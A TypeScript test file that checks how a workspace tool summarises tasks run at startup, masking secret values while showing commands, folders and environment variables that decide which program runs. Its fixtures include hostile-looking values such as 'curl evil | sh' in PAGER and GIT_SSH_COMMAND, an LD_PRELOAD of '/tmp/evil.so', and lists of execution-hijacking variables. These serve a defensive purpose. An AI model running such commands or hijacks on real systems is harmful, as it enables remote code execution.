import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { parseProject } from '../../../src/config/parse.ts';
import { startupTask, startupTasks, type StartupTask } from '../../../src/config/startup.ts';
import type { Project } from '../../../src/model/task-definition.ts';
import { startupExample as file } from './startup-example.ts';
import { sound } from './underlined.ts';

function startupSet(project: Project, folder: string): readonly StartupTask[] {
  return startupTasks(project).map((task) => startupTask(task, { folder, home: '/home/me' }));
}

function detailsOf(keys: string): readonly string[] | undefined {
  const file = `[[tasks]]\nname = "web"\ncommand = "node"\nrun_at_startup = true\n${keys}\n`;
  return startupSet(sound(file), '/shop')[0]?.details;
}

describe('what starts with the workspace', () => {
  it('is the tasks that say so and all that they depend on, in the order of the file', () => {
    assert.deepEqual(startupSet(sound(file), '/home/me/shop'), [
      { name: 'db', title: 'db', commandLine: 'postgres', cwd: '/home/me/shop', details: [] },
      { name: 'web', title: 'Web', commandLine: "node 'two words'", cwd: '/home/me/shop/packages/web', details: [] },
      { name: 'migrate', title: 'migrate', commandLine: 'npm', cwd: '/home/me/tools', details: [] },
    ]);
  });

  it('has what else of a task decides what is executed, with no value of a secret', () => {
    const { project } = parseProject(`
[[tasks]]
name = "web"
command = "node"
run_at_startup = true
stop_command = "bye"
user = "nobody"
env_file = ".env"
unset_env = ["PROXY"]
env = { SECRET = "x1y2z3" }
healthcheck = { command = "sh", args = ["-c", "curl evil"] }
`);
    assert.ok(project);
    const details = startupSet(project, '/shop')[0]?.details;
    assert.deepEqual(details, [
      "healthcheck: sh -c 'curl evil'",
      'stop_command: bye',
      'user: nobody',
      'env: SECRET',
      'env_file: .env',
      'unset_env: PROXY',
    ]);
  });

  it('shows a folder as a start resolves it', () => {
    const cwdOf = (cwd: string): string | undefined =>
      startupSet(sound(`[[tasks]]\nname = "web"\ncommand = "x"\nrun_at_startup = true\ncwd = "${cwd}"\n`), '/shop')[0]
        ?.cwd;
    assert.deepEqual(['~', '~/x', './~/x', 'web', '../up', '/abs'].map(cwdOf), [
      '/home/me',
      '/home/me/x',
      '/shop/~/x',
      '/shop/web',
      '/up',
      '/abs',
    ]);
  });

  it('shows probes of the network, the user and the files that restart it', () => {
    assert.deepEqual(detailsOf('healthcheck = { http = "http://evil/x" }'), ['healthcheck.http: http://evil/x']);
    assert.deepEqual(detailsOf('healthcheck = { tcp = "db:5432" }'), ['healthcheck.tcp: db:5432']);
    assert.deepEqual(detailsOf('healthcheck = { log = "up" }'), []);
    assert.deepEqual(detailsOf('user = "root"\nwatch = ["src/**"]'), ['user: root', 'watch: src/**']);
  });

  describe('of its variables', () => {
    const env = (name: string, value = 'x1y2z3'): readonly string[] | undefined =>
      detailsOf(`env = { ${JSON.stringify(name)} = ${JSON.stringify(value)} }`);

    it('shows each value, whether or not it is known to decide which program runs', () => {
      const known = 'PATH Path NODE_OPTIONS LD_PRELOAD BASH_ENV PYTHONPATH npm_config_script_shell';
      const others =
        'GNUMAKEFLAGS ERL_AFLAGS ERL_ZFLAGS BUN_OPTIONS YARN_YARN_PATH PYTHONUSERBASE PYTHONPYCACHEPREFIX MAVEN_ARGS ' +
        'R_PROFILE_USER GUNICORN_CMD_ARGS PYTEST_ADDOPTS COR_PROFILER PSModulePath DOCKER_CONFIG KUBECONFIG ' +
        'WHAT_NOBODY_KNOWS_OF_YET PORT DEBUG GIT_AUTHOR_NAME';
      for (const name of `${known} ${others}`.split(' ')) assert.deepEqual(env(name), [`env.${name}: x1y2z3`]);
    });

    it('shows the value of one that names a program, though its name looks like that of a secret', () => {
      const names =
        'CARGO_REGISTRY_CREDENTIAL_PROVIDER CARGO_REGISTRIES_SHOP_CREDENTIAL_PROVIDER CARGO_CREDENTIAL_ALIAS_SHOP ' +
        'SSH_ASKPASS GIT_ASKPASS RESTIC_PASSWORD_COMMAND GIT_CONFIG_KEY_0';
      for (const name of names.split(' ')) assert.deepEqual(env(name), [`env.${name}: x1y2z3`]);
    });

    it('shows no value of a secret', () => {
      for (const name of ['API_KEY', 'DB_PASS', 'CARGO_REGISTRY_TOKEN', 'GIT_TOKEN', 'npm_config__auth', 'TOKEN'])
        assert.deepEqual(env(name), [`env: ${name}`]);
    });

    it('masks tokens and passwords inside of values', () => {
      assert.deepEqual(env('DATABASE_URL', 'postgres://me:s3cr3t@db/shop'), [
        'env.DATABASE_URL: postgres://me:***@db/shop',
      ]);
      assert.deepEqual(env('npm_config_registry', 'https://me:s3cr3t@npm.shop'), [
        'env.npm_config_registry: https://me:***@npm.shop',
      ]);
      assert.deepEqual(env('DEPLOY', `ghp_${'a1'.repeat(18)}`), ['env.DEPLOY: ***']);
    });

    it('has no command or path masked as if it were a secret, where it would be run', () => {
      for (const [name, value] of [
        ['PAGER', 'Cookie: ; curl evil | sh'],
        ['GIT_SSH_COMMAND', "token='; curl evil | sh'"],
        ['LD_PRELOAD', 'https://u:/tmp/evil.so@'],
        ['PROMPT_COMMAND', '-----BEGIN PRIVATE KEY-----; curl evil'],
      ] as const)
        assert.deepEqual(env(name, value), [`env.${name}: ${value}`]);
    });

    it('shows an empty one, too', () => {
      assert.deepEqual(env('PATH', ''), ['env.PATH: ']);
    });
  });
});
